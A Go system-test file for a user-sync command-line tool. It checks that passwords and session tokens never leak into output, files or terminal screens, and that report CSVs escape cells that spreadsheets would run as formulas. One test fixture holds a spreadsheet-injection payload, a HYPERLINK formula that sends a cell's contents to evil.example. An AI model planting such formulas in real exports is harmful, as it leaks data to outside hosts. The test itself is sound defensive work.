package systest

import (
	"bytes"
	"crypto/rand"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	gosync "sync"
	"testing"
	"time"

	"usersync/sandbox"
	"usersync/sync/coursedog"
)

// The secrets tests run whole flows and then look for the token and the
// password in everything the program said or wrote: stdout, stderr, every
// file under the working, home and config directories, and (in tmux) the
// guided import's screens. None may hold either, but for the token line of
// the token file itself.

// secretFront stands in front of a sandbox as a careless server would:
// it gives the account a password of its own (the sandbox's is a public
// demo word, useless to search for), records every token issued, and echoes
// credentials back in its error messages, so a leak would show.
type secretFront struct {
	password string // what the operator types; the sandbox behind takes DemoPassword
	srv      *httptest.Server
	mu       gosync.Mutex
	tokens   []string
}

// echoPrefix marks the users whose create the front rejects with a message
// that quotes the request's Authorization header.
const echoPrefix = "echo."

func newSecretFront(t *testing.T, backend *sandbox.Server) *secretFront {
	t.Helper()
	f := &secretFront{password: "pw-" + rand.Text()}
	target, err := url.Parse(backend.URL())
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ErrorLog = nil
	f.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		r.Body.Close()
		switch {
		case r.Method == "POST" && r.URL.Path == "/api/v1/sessions":
			f.login(w, backend, body)
			return
		case r.Method == "POST" && strings.HasSuffix(r.URL.Path, "/users") && bytes.Contains(body, []byte(`"`+echoPrefix)):
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"error": %q}`, "user rejected; request had Authorization: "+r.Header.Get("Authorization"))
			return
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		r.ContentLength = int64(len(body))
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(f.srv.Close)
	return f
}

// login swaps the front's password for the sandbox's, records the token,
// and on a wrong password answers with the password quoted.
func (f *secretFront) login(w http.ResponseWriter, backend *sandbox.Server, body []byte) {
	var req map[string]any
	json.Unmarshal(body, &req)
	if req["plaintextPassword"] != f.password {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprintf(w, `{"error": %q}`, fmt.Sprintf("invalid password %v for %v", req["plaintextPassword"], req["email"]))
		return
	}
	req["plaintextPassword"] = sandbox.DemoPassword
	b, _ := json.Marshal(req)
	resp, err := http.Post(backend.URL()+"/api/v1/sessions", "application/json", bytes.NewReader(b))
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	var tok struct{ Token string }
	if json.Unmarshal(out, &tok) == nil && tok.Token != "" {
		f.mu.Lock()
		f.tokens = append(f.tokens, tok.Token)
		f.mu.Unlock()
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(resp.StatusCode)
	w.Write(out)
}

func (f *secretFront) issued() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.tokens...)
}

// secretScan collects what the program said, to search it at the end.
type secretScan struct {
	t      *testing.T
	said   []string // stdout, stderr and screens, each labelled
	labels []string
}

func (s *secretScan) add(label, text string) {
	s.said = append(s.said, text)
	s.labels = append(s.labels, label)
}

// check searches everything said and every file under dirs for secrets.
// In keep (a token file), the one line "token=<keep token>" is allowed.
func (s *secretScan) check(secrets []string, dirs []string, keepFile, keepLine string) {
	s.t.Helper()
	files := 0
	for _, dir := range dirs {
		filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return nil
			}
			data, err := os.ReadFile(path)
			if err != nil {
				s.t.Errorf("read %s: %v", path, err)
				return nil
			}
			text := string(data)
			if path == keepFile {
				if !strings.Contains(text, keepLine+"\n") {
					s.t.Errorf("the token file %s lacks its token line", path)
				}
				text = strings.Replace(text, keepLine+"\n", "", 1)
			}
			s.add(path, text)
			files++
			return nil
		})
	}
	if files == 0 {
		s.t.Fatal("no files written: the scan proves nothing")
	}
	for _, secret := range secrets {
		if len(secret) < 8 {
			s.t.Fatalf("secret %q is too short to search for", secret)
		}
		for i, text := range s.said {
			if strings.Contains(text, secret) {
				s.t.Errorf("%s holds a secret (%s…)", s.labels[i], secret[:6])
			}
		}
	}
	s.t.Logf("searched %d outputs and files for %d secrets", len(s.said), len(secrets))
}

// TestSecretsNeverWritten logs in (once with a wrong password), plans,
// applies with faults on and the token expiring mid-run, logs in again,
// resumes, and rolls back; a server that echoes credentials in its errors
// answers some of the creates. Neither token nor password may appear in
// any output or file, and the token file stays 0600.
func TestSecretsNeverWritten(t *testing.T) {
	work, home, cfg := t.TempDir(), t.TempDir(), t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", cfg)
	t.Chdir(work)
	srv, err := sandbox.Start(sandbox.Options{Users: 80, Seed: 81})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	front := newSecretFront(t, srv)
	wrong := "wrong-" + rand.Text()
	scan := &secretScan{t: t}
	noEnv := func(string) string { return "" }
	var said string // the last command's stderr, for a failure to show
	cmd := func(stdin string, args ...string) int {
		t.Helper()
		code, stdout, stderr := runCommand(t, noEnv, stdin, 60*time.Second, args...)
		said = stderr
		scan.add("stdout of "+strings.Join(args[:2], " "), stdout)
		scan.add("stderr of "+strings.Join(args[:2], " "), stderr)
		return code
	}

	// The token file exists already, readable by others, with notes.
	props := filepath.Join(work, "secret", "coursedog.properties")
	os.MkdirAll(filepath.Dir(props), 0o755)
	if err := os.WriteFile(props, []byte("# my notes\nproxy=none\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	loginArgs := []string{"login", "--env", front.srv.URL, "--school", sandbox.DemoSchool,
		"--email", sandbox.DemoEmail, "--properties", props, "--password-stdin"}
	if code := cmd(wrong+"\n", loginArgs...); code != exitUsage {
		t.Fatalf("login with a wrong password: exit %d", code)
	}
	if !strings.Contains(scan.said[len(scan.said)-1], "[redacted]") {
		t.Errorf("the echoed wrong password was not redacted: %s", scan.said[len(scan.said)-1])
	}
	checkTokenFile := func() string {
		t.Helper()
		fi, err := os.Stat(props)
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Fatalf("token file: %v, mode %v; want 0600", err, fi.Mode().Perm())
		}
		data, _ := os.ReadFile(props)
		if !strings.Contains(string(data), "# my notes\nproxy=none\n") {
			t.Errorf("login lost the file's other lines:\n%s", data)
		}
		ts, err := coursedog.FindToken(noEnv, props)
		if err != nil {
			t.Fatal(err)
		}
		return ts.Token
	}
	if code := cmd(front.password+"\n", loginArgs...); code != exitOK {
		t.Fatalf("login: exit %d", code)
	}
	tok := checkTokenFile()

	// 40 rows the sandbox takes, 2 the front rejects quoting the token.
	file, _ := writeUsers(t, srv, work, 20)
	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(f, "Echo,One,%sone@example.edu,scheduling\nEcho,Two,%stwo@example.edu,catalog\n", echoPrefix, echoPrefix)
	f.Close()
	conn := []string{"--properties", props}
	paths := []string{"--journal", filepath.Join(work, "run", "journal.jsonl"),
		"--report", filepath.Join(work, "run", "report.csv"), "--backup", filepath.Join(work, "run", "backup.json")}
	if code := cmd("", append([]string{"plan", file, "--out", "plan.json", "--json", "--no-registration-mail"}, conn...)...); code != exitOK {
		t.Fatalf("plan: exit %d", code)
	}

	// Apply with 30% of requests failing; the token dies after 5 creates.
	if err := srv.SetFaults(sandbox.Options{FailRate: 0.3}); err != nil {
		t.Fatal(err)
	}
	apply := append(append([]string{"apply", "plan.json", "--yes", "--no-registration-mail", "--concurrency", "2", "--json"}, conn...), paths...)
	fired := untilCreates(srv, 5, 30*time.Second, srv.ExpireSessions)
	if code := cmd("", apply...); code != exitInterrupted {
		t.Fatalf("apply with the token expiring: exit %d, want 3\n%s", code, said)
	}
	<-fired
	if code := cmd("", apply...); code == exitOK {
		t.Fatal("apply with a dead token: exit 0")
	}
	// A login is one POST, not retried: sign in while the server is well.
	srv.SetFaults(sandbox.Options{})
	if code := cmd(front.password+"\n", loginArgs...); code != exitOK {
		t.Fatalf("second login: exit %d", code)
	}
	srv.SetFaults(sandbox.Options{FailRate: 0.3})
	if tok2 := checkTokenFile(); tok2 == tok {
		t.Fatal("the second login kept the old token")
	} else {
		tok = tok2
	}
	if code := cmd("", apply...); code != exitRowsFailed {
		t.Fatalf("resumed apply: exit %d, want 1 (the echoed rows fail)\n%s", code, said)
	}
	report, _ := os.ReadFile(filepath.Join(work, "run", "report.csv"))
	if !strings.Contains(string(report), "[redacted]") {
		t.Errorf("the rejected rows do not carry the server's (redacted) message:\n%s", report)
	}
	// At 30% a write fails all six of its tries once in 1,400, so the
	// rollback's 40 writes ended with a failed row (exit 1) about one run
	// in thirty-five; at 10% that is one in a million writes, and its error
	// pages still pass through the scan.
	srv.SetFaults(sandbox.Options{FailRate: 0.1})
	if code := cmd("", append([]string{"rollback", "--journal", filepath.Join(work, "run", "journal.jsonl"), "--yes", "--json"}, conn...)...); code != exitOK {
		t.Fatalf("rollback: exit %d\n%s", code, said)
	}

	// Journals, reports, backups and plans hold people's data: 0600 too.
	written, _ := filepath.Glob(filepath.Join(work, "run", "*"))
	for _, path := range append(written, filepath.Join(work, "plan.json")) {
		if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, mode %v; want 0600", path, err, fi.Mode().Perm())
		}
	}
	if len(written) < 6 {
		t.Errorf("only %d files in the run directory: %v", len(written), written)
	}

	tokens := front.issued()
	if len(tokens) != 2 {
		t.Fatalf("the front saw %d tokens issued, want 2", len(tokens))
	}
	scan.check(append(tokens, front.password, wrong), []string{work, home, cfg}, props, "token="+tok)
}

// TestSecretsNotOnScreen signs in to the guided import by typing the
// password, applies a file and quits, capturing every screen in tmux:
// neither the password nor the token may be on any of them, nor in any
// file the program wrote.
func TestSecretsNotOnScreen(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary and drives it in tmux")
	}
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("tmux is not installed")
	}
	bin := usersyncBinary(t)
	work, home := t.TempDir(), t.TempDir()
	srv, err := sandbox.Start(sandbox.Options{Users: 30, Seed: 82})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	front := newSecretFront(t, srv)
	file, _ := writeUsers(t, srv, work, 5)

	s := &tmuxSession{t: t, socket: fmt.Sprintf("usersync-secrets-%d", os.Getpid()), name: "secrets"}
	shell := fmt.Sprintf("cd %q && XDG_CONFIG_HOME=%q HOME=%q NO_COLOR=1 %q --env %s --school %s %q 2>%q; echo EXITED $?; sleep 30",
		work, filepath.Join(home, ".config"), home, bin, front.srv.URL, sandbox.DemoSchool, file, filepath.Join(work, "stderr.txt"))
	s.tmux("new-session", "-d", "-s", s.name, "-x", "120", "-y", "40", shell)
	t.Cleanup(func() { exec.Command("tmux", "-L", s.socket, "kill-server").Run() })
	scan := &secretScan{t: t}
	shoot := func(label string, texts ...string) {
		t.Helper()
		scan.add("screen "+label, s.waitFor(texts...))
	}

	shoot("sign-in", "Sign in")
	s.typeText(sandbox.DemoEmail)
	s.keys("Tab")
	s.typeText(front.password)
	shoot("password typed", "•")
	s.keys("Enter")
	shoot("preview", "10 rows")
	s.keys("Enter")
	shoot("dry run", "+ 5 create", "~ 5 update")
	s.keys("Enter")
	shoot("confirmation", "This will:")
	s.keys("y")
	shoot("summary", "Import finished")
	s.keys("C-c")
	shoot("exit", "EXITED")

	tokens := front.issued()
	if len(tokens) != 1 {
		t.Fatalf("the front saw %d tokens issued, want 1", len(tokens))
	}
	scan.check(append(tokens, front.password), []string{work, home}, "", "")
}

// TestReportEscapesFormulas: cells a spreadsheet would run as formulas
// (here emails, valid and not, that start with = + - @) reach the report
// CSV as text: with a leading apostrophe.
func TestReportEscapesFormulas(t *testing.T) {
	srv, tok := sandboxToken(t, sandbox.Options{Users: 10, Seed: 83})
	dir := t.TempDir()
	file := filepath.Join(dir, "formulas.csv")
	rows := "First Name,Last Name,Email,Products\n" +
		"Eve,Formula,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",scheduling\n" +
		"Eve,At,@SUM(1+1)!A0,scheduling\n" +
		"Plus,Sign,+plus@example.edu,scheduling\n" +
		"Dash,Sign,-cmd@example.edu,catalog\n" +
		"Plain,Row,plain.row@example.edu,catalog\n"
	if err := os.WriteFile(file, []byte(rows), 0o600); err != nil {
		t.Fatal(err)
	}
	report := filepath.Join(dir, "report.csv")
	getenv := func(k string) string {
		if k == coursedog.EnvToken {
			return tok
		}
		return ""
	}
	code, _, stderr := runCommand(t, getenv, "", 30*time.Second, "apply", file, "--env", srv.URL(), "--school", sandbox.DemoSchool,
		"--yes", "--no-registration-mail", "--report", report, "--journal", filepath.Join(dir, "j.jsonl"), "--backup", filepath.Join(dir, "b.json"))
	if code != exitRowsFailed {
		t.Fatalf("apply: exit %d, want 1 (two rows skipped):\n%s", code, stderr)
	}
	if _, ok := srv.User("-cmd@example.edu"); !ok {
		t.Fatal("the valid -cmd@example.edu was not created: the test would not show its cell escaped")
	}
	f, err := os.Open(report)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	escaped := 0
	for _, row := range cells {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("report cell %q would run as a formula", cell)
				}
			}
			if strings.HasPrefix(cell, "'") {
				escaped++
			}
		}
	}
	if len(cells) != 6 || escaped < 4 {
		t.Errorf("report has %d lines and %d escaped cells, want 6 lines (header + 5 rows) and 4 escaped:\n%v", len(cells), escaped, cells)
	}
}
